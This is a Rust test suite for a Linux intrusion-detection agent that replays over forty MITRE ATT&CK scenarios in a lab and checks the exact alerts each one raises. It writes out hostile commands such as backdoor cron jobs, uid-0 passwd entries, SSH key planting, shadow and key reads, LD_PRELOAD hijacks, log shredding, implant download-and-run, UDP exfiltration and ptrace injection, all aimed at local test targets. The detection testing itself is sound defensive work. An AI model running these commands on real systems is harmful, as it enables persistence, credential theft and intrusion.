//! The attack scenarios, each mapped to a MITRE ATT&CK for Linux technique, and the suite that
//! plays them in one agent session. docs/DETECTION.md is their coverage table: keep both in step.

use super::*;

/// One attack: shell code the attacker runs through the web server's command injection, and
/// exactly the alerts (kind, path) the processes it starts must raise. In code and paths, `@W`
/// is the world's directory, `@T`, `@V` and `@S` the attacker's directories under `/tmp`,
/// `/var/tmp` and `/dev/shm`, `@A` the port of the attacker's download server, `@B` another
/// port of the attacker's, `@L` and `@U` free ports.
struct Scenario {
    technique: &'static str,
    what: &'static str,
    code: &'static str,
    expect: &'static [(&'static str, &'static str)],
    /// Alerts raised later by another process because of the attack (a cron job planted and
    /// run by the scheduler), found by their kind and path.
    then: &'static [(&'static str, &'static str)],
}

const LINEAGE: &str = "unexpected_lineage";
const SUSPICIOUS: &str = "suspicious_exec";
const UNKNOWN: &str = "unknown_executable";
const PROTECTED: &str = "protected_file_changed";
const APPEND_ONLY: &str = "append_only_violated";
const LOADER: &str = "loader_environment";
const SENSITIVE: &str = "sensitive_file_read";
const CONNECTION: &str = "unexpected_connection";
const INJECTION: &str = "process_injection";
const MOUNT: &str = "mount_changed";
/// The dry run of enforcement (alert mode): what enforce would have refused.
const WOULD: &str = "would_block";

const PYTHON: &str = "/usr/bin/python3.11";

const fn s(
    technique: &'static str,
    what: &'static str,
    code: &'static str,
    expect: &'static [(&'static str, &'static str)],
) -> Scenario {
    Scenario {
        technique,
        what,
        code,
        expect,
        then: &[],
    }
}

const SCENARIOS: &[Scenario] = &[
    s("T1059.004", "the web server starts a shell (command injection)", ":",
        &[(LINEAGE, "@W/bin/sh")]),
    s("T1059.004", "a script dropped in /tmp run by the device's shell",
        "printf ':\\n' > @T/a.sh && @W/bin/sh @T/a.sh",
        &[(LINEAGE, "@T/a.sh"), (SUSPICIOUS, "@T/a.sh"), (UNKNOWN, "@T/a.sh")]),
    s("T1059.004", "a script dropped in /var/tmp run by bash",
        "printf ':\\n' > @V/b.sh && /usr/bin/bash @V/b.sh",
        &[(LINEAGE, "@V/b.sh"), (SUSPICIOUS, "@V/b.sh"), (UNKNOWN, "@V/b.sh")]),
    s("T1059.004", "a script written in the device's data directory and run",
        "printf ':\\n' > @W/data/c.sh && @W/bin/sh @W/data/c.sh",
        &[(LINEAGE, "@W/data/c.sh"), (UNKNOWN, "@W/data/c.sh")]),
    s("T1059.004", "inline code: bash -c", "/usr/bin/bash -c :",
        &[(LINEAGE, "/usr/bin/bash")]),
    s("T1059.004", "awk running a shell: awk 'BEGIN {system(...)}'",
        "/usr/bin/mawk 'BEGIN { system(\":\") }'",
        &[(LINEAGE, "/usr/bin/dash"), (LINEAGE, "/usr/bin/mawk")]),
    s("T1059.004", "shell code piped into a shell's standard input", "echo : | /usr/bin/dash",
        &[(LINEAGE, "/usr/bin/dash")]),
    s("T1059.006", "a Python script dropped in /dev/shm",
        "printf 'pass\\n' > @S/x.py && /usr/bin/python3.11 @S/x.py",
        &[(LINEAGE, "@S/x.py"), (SUSPICIOUS, "@S/x.py"), (UNKNOWN, "@S/x.py")]),
    s("T1059.006", "inline Python: python3 -c", "/usr/bin/python3.11 -c pass",
        &[(LINEAGE, PYTHON)]),
    s("T1059.006", "a Python module run as a program: python3 -m",
        "/usr/bin/python3.11 -m this > /dev/null", &[(LINEAGE, PYTHON)]),
    s("T1059", "inline Perl: perl -e", "/usr/bin/perl -e 1", &[(LINEAGE, "/usr/bin/perl")]),
    Scenario {
        technique: "T1053.003",
        what: "a cron job planted in the scheduler's directory",
        code: "echo ': backdoor' > @W/etc/cron.d/zz-backdoor.sh",
        expect: &[(PROTECTED, "@W/etc/cron.d/zz-backdoor.sh")],
        then: &[
            (UNKNOWN, "@W/etc/cron.d/zz-backdoor.sh"),
            (LINEAGE, "@W/etc/cron.d/zz-backdoor.sh"),
        ],
    },
    s("T1543.002", "a new systemd unit",
        "printf '[Service]\\nExecStart=@T/a.sh\\n' > @W/etc/systemd/system/backdoor.service",
        &[(PROTECTED, "@W/etc/systemd/system/backdoor.service")]),
    s("T1543.002", "an existing systemd unit changed",
        "echo 'ExecStartPre=@T/a.sh' >> @W/etc/systemd/system/app.service",
        &[(PROTECTED, "@W/etc/systemd/system/app.service")]),
    s("T1037.004", "a line added to the RC script", "echo '@T/a.sh &' >> @W/etc/init.d/rcS",
        &[(PROTECTED, "@W/etc/init.d/rcS")]),
    s("T1546.004", "a line added to root's shell profile", "echo '@T/a.sh' >> @W/root/.profile",
        &[(PROTECTED, "@W/root/.profile")]),
    s("T1098.004", "an SSH key added to root's authorized_keys",
        "echo 'ssh-ed25519 AAAAattacker x' >> @W/root/.ssh/authorized_keys",
        &[(PROTECTED, "@W/root/.ssh/authorized_keys")]),
    s("T1136.001", "a local account with uid 0 added to passwd",
        "echo 'svc:x:0:0::/root:/bin/sh' >> @W/etc/passwd", &[(PROTECTED, "@W/etc/passwd")]),
    s("T1136.001", "a local group added", "echo 'svc:x:0:' >> @W/etc/group",
        &[(PROTECTED, "@W/etc/group")]),
    s("T1548.001", "a setuid copy of the shell",
        "/usr/bin/cp @W/bin/sh @W/data/.rootsh && /usr/bin/chmod u+s @W/data/.rootsh",
        &[(LINEAGE, "/usr/bin/chmod"), (LINEAGE, "/usr/bin/cp"),
          ("setuid_bit_set", "@W/data/.rootsh")]),
    s("T1548.001", "the setgid bit set", ": > @W/data/tool && /usr/bin/chmod 2755 @W/data/tool",
        &[("setuid_bit_set", "@W/data/tool")]),
    s("T1548", "a file capability set (setcap cap_setuid)",
        ": > @W/data/cap && /usr/sbin/setcap cap_setuid+ep @W/data/cap",
        &[("file_capability_set", "@W/data/cap"), (LINEAGE, "/usr/sbin/setcap")]),
    s("T1574.006", "LD_PRELOAD of a library in /tmp",
        ": > @T/evil.so && LD_PRELOAD=@T/evil.so /usr/bin/true 2>/dev/null",
        &[(LINEAGE, "/usr/bin/true"), (LOADER, "/usr/bin/true")]),
    s("T1574.006", "LD_LIBRARY_PATH into /tmp", "LD_LIBRARY_PATH=@T /usr/bin/id > /dev/null",
        &[(LINEAGE, "/usr/bin/id"), (LOADER, "/usr/bin/id")]),
    s("T1574.006", "LD_AUDIT of a library in /tmp",
        "LD_AUDIT=@T/evil.so /usr/bin/whoami > /dev/null 2>&1",
        &[(LINEAGE, "/usr/bin/whoami"), (LOADER, "/usr/bin/whoami")]),
    s("T1070.002", "a log truncated", ": > @W/log/auth.log",
        &[(APPEND_ONLY, "@W/log/auth.log")]),
    s("T1070.002", "a log deleted", "/usr/bin/rm @W/log/messages.log",
        &[(APPEND_ONLY, "@W/log/messages.log"), (LINEAGE, "/usr/bin/rm")]),
    s("T1070.002", "a log renamed away", "/usr/bin/mv @W/log/audit.log @T/",
        &[(APPEND_ONLY, "@W/log/audit.log"), (LINEAGE, "/usr/bin/mv")]),
    s("T1070.004", "a log shredded", "/usr/bin/shred -u @W/log/debug.log",
        &[(APPEND_ONLY, "@W/log/debug.log"), (LINEAGE, "/usr/bin/shred")]),
    // rm ran before (scenario "a log deleted"): its lineage alert is counted into that one.
    s("T1070.004", "the dropped tools deleted (NOT CAUGHT)", "/usr/bin/rm @T/a.sh @V/b.sh",
        &[]),
    s("T1222.002", "the configuration made world-writable", "/usr/bin/chmod 0666 @W/etc/app.conf",
        &[(PROTECTED, "@W/etc/app.conf")]),
    s("T1222.002", "the device key given to another user", "/usr/bin/chown 1000 @W/etc/device.key",
        &[(LINEAGE, "/usr/bin/chown"), (PROTECTED, "@W/etc/device.key")]),
    s("T1564.001", "a hidden program dropped and run",
        "/usr/bin/cp /usr/bin/true @W/data/.hidden && @W/data/.hidden",
        &[(LINEAGE, "@W/data/.hidden"), (UNKNOWN, "@W/data/.hidden"), (WOULD, "@W/data/.hidden")]),
    s("T1620", "a program run from memory (memfd)",
        "/usr/bin/python3.11 -c 'import os; fd = os.memfd_create(\"kit\"); \
         os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); \
         os.execv(\"/proc/self/fd/%d\" % fd, [\"kit\"])'",
        &[
            (SUSPICIOUS, "/memfd:kit (deleted)"),
            (UNKNOWN, "/memfd:kit (deleted)"),
            (WOULD, "/memfd:kit (deleted)"),
            // The lineage alert names the program without the kernel's " (deleted)".
            (LINEAGE, "/memfd:kit"),
        ]),
    s("T1036.005", "a program masquerading as a system daemon",
        "/usr/bin/cp /usr/bin/true @W/sbin/sshd && @W/sbin/sshd",
        &[(LINEAGE, "@W/sbin/sshd"), (UNKNOWN, "@W/sbin/sshd"), (WOULD, "@W/sbin/sshd")]),
    s("T1036.005", "a listed program replaced by another",
        "/usr/bin/cp /usr/bin/true @W/bin/status && @W/bin/status",
        &[(LINEAGE, "@W/bin/status"), ("modified_executable", "@W/bin/status"),
          (WOULD, "@W/bin/status")]),
    s("T1003.008", "the shadow file read", "/usr/bin/cat @W/etc/shadow > /dev/null",
        &[(LINEAGE, "/usr/bin/cat"), (SENSITIVE, "@W/etc/shadow")]),
    s("T1552.004", "the device's private key read", "/usr/bin/base64 @W/etc/device.key > /dev/null",
        &[(LINEAGE, "/usr/bin/base64"), (SENSITIVE, "@W/etc/device.key")]),
    s("T1552.004", "the private key read through a hard link",
        "/usr/bin/ln @W/etc/device.key @W/data/notes && /usr/bin/od @W/data/notes > /dev/null",
        &[(LINEAGE, "/usr/bin/ln"), (LINEAGE, "/usr/bin/od"), (SENSITIVE, "@W/etc/device.key")]),
    s("T1552.001", "configuration searched for passwords",
        "/usr/bin/grep -r -i -e password -e private @W/etc > /dev/null",
        &[(LINEAGE, "/usr/bin/grep"), (SENSITIVE, "@W/etc/device.key"),
          (SENSITIVE, "@W/etc/shadow")]),
    s("T1105", "a tool downloaded with curl",
        "/usr/bin/curl -fsS -o @W/data/payload http://127.0.0.1:@A/payload",
        &[(CONNECTION, "/usr/bin/curl"), (LINEAGE, "/usr/bin/curl"), (WOULD, "/usr/bin/curl")]),
    s("T1105", "an implant downloaded with wget into /tmp and run",
        "/usr/bin/wget -q -O @T/implant http://127.0.0.1:@A/implant && /usr/bin/chmod +x @T/implant && @T/implant",
        &[(LINEAGE, "@T/implant"), (LINEAGE, "/usr/bin/wget"), (SUSPICIOUS, "@T/implant"),
          (UNKNOWN, "@T/implant"), (CONNECTION, "/usr/bin/wget"), (WOULD, "@T/implant"),
          (WOULD, "/usr/bin/wget")]),
    s("T1571", "a connection to a non-standard port",
        "/usr/bin/python3.11 -c 'import socket; socket.create_connection((\"127.0.0.1\", @B)).close()'",
        &[(CONNECTION, PYTHON), (WOULD, PYTHON)]),
    s("T1090", "a proxy listening for the attacker",
        "/usr/bin/python3.11 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", @L)); s.listen()'",
        &[("unexpected_listener", PYTHON), (WOULD, PYTHON)]),
    s("T1048.003", "data sent out over UDP",
        "/usr/bin/python3.11 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"loot\", (\"127.0.0.1\", @U))'",
        &[(CONNECTION, PYTHON), (WOULD, PYTHON)]),
    s("T1055.008", "ptrace attach to another process",
        "/usr/bin/sleep 30 & /usr/bin/python3.11 -c 'import ctypes, os, sys; \
         libc = ctypes.CDLL(None, use_errno=True); \
         libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]; \
         pid = int(sys.argv[1]); \
         assert libc.ptrace(16, pid, None, None) == 0; \
         os.waitpid(pid, 0x40000000); \
         assert libc.ptrace(17, pid, None, None) == 0' $!; status=$?; kill $!; exit $status",
        &[(LINEAGE, "/usr/bin/sleep"), (INJECTION, "/usr/bin/sleep")]),
    s("T1055", "another process's memory written (process_vm_writev)",
        "/usr/bin/tail -f /dev/null & /usr/bin/python3.11 -c 'import ctypes, sys; \
         libc = ctypes.CDLL(None, use_errno=True); \
         pid = int(sys.argv[1]); \
         start = [int(l.split()[0].split(\"-\")[0], 16) for l in open(\"/proc/%d/maps\" % pid) if l.split()[1].startswith(\"rw\")][0]; \
         Iov = type(\"Iov\", (ctypes.Structure,), {\"_fields_\": [(\"base\", ctypes.c_void_p), (\"len\", ctypes.c_size_t)]}); \
         buf = ctypes.create_string_buffer(8); \
         local = Iov(ctypes.cast(buf, ctypes.c_void_p), 8); remote = Iov(start, 8); \
         assert libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8; \
         assert libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8' $!; status=$?; kill $!; exit $status",
        &[(LINEAGE, "/usr/bin/tail"), (INJECTION, "/usr/bin/tail")]),
    s("T1564", "a tmpfs mounted over a directory (hides what is under it)",
        "/usr/bin/mount -t tmpfs none @W/data/mnt",
        &[(LINEAGE, "/usr/bin/mount"), (MOUNT, "@W/data/mnt")]),
    s("T1564", "the mount taken away again", "/usr/bin/umount @W/data/mnt",
        &[(LINEAGE, "/usr/bin/umount"), (MOUNT, "@W/data/mnt")]),
    // This machine's kernel has no module support: finit_module fails (ENOSYS) and nothing is
    // loaded. The python3 lineage alert was raised before (inline python3 -c).
    s("T1547.006", "a kernel module loaded (NOT TESTABLE: no module support in this kernel)",
        "/usr/bin/python3.11 -c 'import ctypes, os; \
         fd = os.open(\"@W/data/payload\", os.O_RDONLY); \
         r = ctypes.CDLL(None, use_errno=True).syscall(313, fd, b\"\", 0); \
         assert r != 0'",
        &[]),
    s("T1082", "system information discovery", "/usr/bin/uname -a > /dev/null",
        &[(LINEAGE, "/usr/bin/uname")]),
    s("T1057", "process discovery", "/usr/bin/ps ax > /dev/null", &[(LINEAGE, "/usr/bin/ps")]),
    s("T1083", "file and directory discovery", "/usr/bin/find @W -name '*.key' > /dev/null",
        &[(LINEAGE, "/usr/bin/find")]),
    s("T1027", "obfuscated shell code decoded and piped into the device's shell",
        "echo Ogo= | /usr/bin/base64 -d | @W/bin/sh", &[(LINEAGE, "@W/bin/sh")]),
    s(
        "T1070.006",
        "the configuration's times changed with touch (opened for writing)",
        "/usr/bin/touch -d 2020-01-01 @W/etc/app.conf",
        &[(LINEAGE, "/usr/bin/touch"), (PROTECTED, "@W/etc/app.conf")],
    ),
    // utimensat alone is no file event: python3's lineage alert was raised before.
    s(
        "T1070.006",
        "the times of passwd changed by utime alone (NOT CAUGHT)",
        "/usr/bin/python3.11 -c 'import os; os.utime(\"@W/etc/passwd\", (0, 0))'",
        &[],
    ),
];

/// The attacker's download server (answers every request with a copy of `true`) and a port
/// that accepts connections and closes them. Threads end with the test process.
fn attacker_servers() -> (u16, u16) {
    let payload = fs::read("/usr/bin/true").unwrap();
    let http = TcpListener::bind("127.0.0.1:0").unwrap();
    let sink = TcpListener::bind("127.0.0.1:0").unwrap();
    let ports = (
        http.local_addr().unwrap().port(),
        sink.local_addr().unwrap().port(),
    );
    std::thread::spawn(move || {
        for mut s in http.incoming().flatten() {
            let mut req = [0u8; 4096];
            let _ = s.read(&mut req);
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                payload.len()
            );
            let _ = s.write_all(&payload);
        }
    });
    std::thread::spawn(move || for _s in sink.incoming() {});
    ports
}

#[test]
fn attacks_raise_exactly_their_alerts() {
    assert!(SCENARIOS.len() >= 40, "{} scenarios", SCENARIOS.len());
    let lab = Lab::new("attacks");
    let mut world = World::new("attacks");
    let bundle = world.baseline(&lab);
    let attacker: Vec<PathBuf> = ["/tmp", "/var/tmp", "/dev/shm"]
        .iter()
        .map(|d| {
            let p = Path::new(d).join(unique("picket-attacker"));
            fs::create_dir_all(&p).unwrap();
            p
        })
        .collect();
    fs::create_dir_all(world.dir.join("data/mnt")).unwrap();
    let (http, sink) = attacker_servers();
    let (listen, udp) = (free_port(), free_port());
    let w = world.dir.to_str().unwrap().to_string();
    let fill = |text: &str| {
        text.replace("@W", &w)
            .replace("@T", attacker[0].to_str().unwrap())
            .replace("@V", attacker[1].to_str().unwrap())
            .replace("@S", attacker[2].to_str().unwrap())
            .replace("@A", &http.to_string())
            .replace("@B", &sink.to_string())
            .replace("@L", &listen.to_string())
            .replace("@U", &udp.to_string())
    };

    let agent = Agent::start(&config(&lab, &bundle));
    let mut failures = String::new();
    for (n, sc) in SCENARIOS.iter().enumerate() {
        let code = fill(sc.code);
        let (root, status, output) = world.inject(&code);
        let expected: BTreeSet<(String, String)> = sc
            .expect
            .iter()
            .map(|(k, p)| (k.to_string(), fill(p)))
            .collect();
        // What comes from another source than the ring buffer (fanotify) may come after the
        // barrier: each expected alert is waited for first.
        // (One missing is said by the comparison below, with everything the scenario raised.)
        for (k, p) in &expected {
            let _ = agent.0.try_wait_for(ALERT_TIMEOUT, |a| {
                of_tree(a, root) && kind(a) == k && path(a) == Some(p.as_str())
            });
        }
        for (k, p) in sc.then {
            let p = fill(p);
            if agent
                .0
                .try_wait_for(ALERT_TIMEOUT, |a| {
                    kind(a) == *k && path(a) == Some(p.as_str())
                })
                .is_none()
            {
                let _ = writeln!(failures, "#{n} {} {}: no {k} of {p}", sc.technique, sc.what);
            }
        }
        agent.barrier(&lab, &format!("after scenario {n}"));
        let got: BTreeSet<(String, String)> = agent
            .alerts()
            .iter()
            .filter(|a| of_tree(a, root) && !HEALTH_KINDS.contains(&kind(a)))
            .map(|a| (kind(a).to_string(), path(a).unwrap_or_default().to_string()))
            .collect();
        if got != expected || status != 0 {
            let _ = writeln!(
                failures,
                "#{n} {} {} (shell {root}, exit {status}, output {output:?}):\n  expected {expected:?}\n  got      {got:?}",
                sc.technique, sc.what
            );
        }
    }
    let _ = fs::remove_file(world.dir.join("etc/cron.d/zz-backdoor.sh"));
    let out = agent.stop();
    for dir in &attacker {
        let _ = fs::remove_dir_all(dir);
    }
    assert!(
        failures.is_empty(),
        "scenarios that did not raise exactly their alerts:\n{failures}\nall alerts:\n{}",
        lines(&out.alerts)
    );
}
